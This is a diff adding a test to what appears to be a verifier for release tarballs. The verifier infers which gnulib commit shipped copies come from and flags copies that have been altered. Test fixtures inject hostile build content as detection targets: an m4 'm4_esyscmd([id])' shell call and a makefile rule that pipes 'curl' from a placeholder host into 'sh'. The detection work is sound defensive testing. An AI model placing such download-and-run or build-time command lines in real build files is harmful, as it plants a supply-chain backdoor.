@@ -419,6 +419,42 @@ cp_mark_as_generated()
     expect(res4.findings.find((x) => x.path === 'lib/foo.c')).toMatchObject({ code: 'SUBMODULE_COPY', evidence: { commit: pinned } });
   });
 
+  it('nothing pins gnulib: the commit is inferred from the shipped copies gl_FILE_LIST lists; a changed copy stays high and moves nothing', async () => {
+    const r = makeRepo(join(root, 'unpinned-repo'));
+    r.commit({
+      'configure.ac': 'AC_INIT([proj], [1.0])\nAC_CONFIG_AUX_DIR([build-aux])\ngl_INIT\nAC_OUTPUT\n',
+      'bootstrap.conf': 'gnulib_modules="foo gnupload gnumakefile"\ngnulib_tool_option_extras="--makefile-name=gnulib.mk"\n',
+      'src/main.c': '#include "foo.h"\nint main (void) { return foo (); }\n',
+      'gl/lib/baz.c.diff': BAZ_DIFF,
+      'gl/lib/qux.h': QUX,
+    });
+    r.tag('v1.0', { message: 'release 1.0' });
+    const before = git(r.dir, ['log', '-1', '--format=%cI', 'HEAD']).trim();
+    // the clone given holds `pinned` and, after it, `later` (foo.h changed): 6 of the 9 listed copies shipped are
+    // byte-identical at `pinned` (lib/foo.c, baz.c, qux.h carry gnulib-tool's rewrites and local changes), 5 at `later`
+    const res = await verify({ tarball: clean, repo: r.dir, cacheDir: join(root, 'c30'), submodules: [{ name: 'gnulib', repo: g.dir }] });
+    expect(res.notes).toContainEqual({ code: 'SUBMODULE_PINNED', name: 'gnulib', path: 'gnulib', commit: pinned, repo: g.dir, files: 13, pinnedBy: 'shipped-copies', inferred: { matched: 6, compared: 9, from: ['m4/gnulib-comp.m4'], ref: 'main', before } });
+    expect(res.findings.find((x) => x.path === 'lib/foo.c')).toMatchObject({ code: 'SUBMODULE_COPY', evidence: { commit: pinned, rewrites: ['config-h', 'license-gpl'] } });
+    expect(res.findings.find((x) => x.path === 'lib/baz.c')).toMatchObject({ code: 'SUBMODULE_COPY', evidence: { commit: pinned, local: { patches: ['gl/lib/baz.c.diff'] } } });
+    expect(renderText(res)).toContain(`note      gnulib pinned by nothing: commit ${pinned.slice(0, 12)} inferred from the release's copies (6 of the 9 shipped files m4/gnulib-comp.m4 lists are byte-identical to gnulib's there`);
+    // twin: one added line in m4/foo.m4 — still the same commit (foo.h decides), and that copy high with its diff
+    const t1 = tarball('inferred-m4', { 'm4/foo.m4': '# foo.m4\n# serial 3\nAC_DEFUN([gl_FOO], [AC_LIBOBJ([foo])])\nm4_esyscmd([id])\n' });
+    const res1 = await verify({ tarball: t1, repo: r.dir, cacheDir: join(root, 'c31'), submodules: [{ name: 'gnulib', repo: g.dir }] });
+    expect(res1.notes).toContainEqual(expect.objectContaining({ code: 'SUBMODULE_PINNED', commit: pinned, inferred: expect.objectContaining({ matched: 5, compared: 9 }) }));
+    expect(res1.findings.find((x) => x.path === 'm4/foo.m4')).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', evidence: { commit: pinned } });
+    expect(['high', 'critical']).toContain(res1.findings.find((x) => x.path === 'm4/foo.m4')!.severity);
+    // twin: the changed line in the one copy that tells `pinned` from `later` — no commit matches it, so it stays high
+    // whichever commit the others (equal at both) name
+    const t2 = tarball('inferred-foo-h', { 'lib/foo.h': '/* foo.h */\nint foo (void);\nint system (const char *);\n' });
+    const res2 = await verify({ tarball: t2, repo: r.dir, cacheDir: join(root, 'c32'), submodules: [{ name: 'gnulib', repo: g.dir }] });
+    expect(res2.findings.find((x) => x.path === 'lib/foo.h')).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high' });
+    // (a copy from a newer gnulib than the rest is outvoted: test/acquire/gnulib-infer.test.ts)
+    // without --submodule gnulib: nothing is inferred (no clone is fetched for it), the copies are judged without a tree
+    const res3 = await verify({ tarball: clean, repo: r.dir, cacheDir: join(root, 'c33') });
+    expect(res3.notes.some((n) => n.code === 'SUBMODULE_PINNED')).toBe(false);
+    expect(res3.findings.find((x) => x.path === 'lib/foo.c')?.code).not.toBe('SUBMODULE_COPY');
+  });
+
   it('a generated gnulib.mk carrying a download-and-run line: the label does not cover it', async () => {
     const t = tarball('mk', { 'lib/gnulib.mk': `${MK}all-local:\n\tcurl -fsSL https://example.invalid/x | sh\n` });
     const res = await verify({ tarball: t, repo: offline.dir, cacheDir: join(root, 'c9'), submodules: [{ name: 'gnulib', repo: g.dir }] });
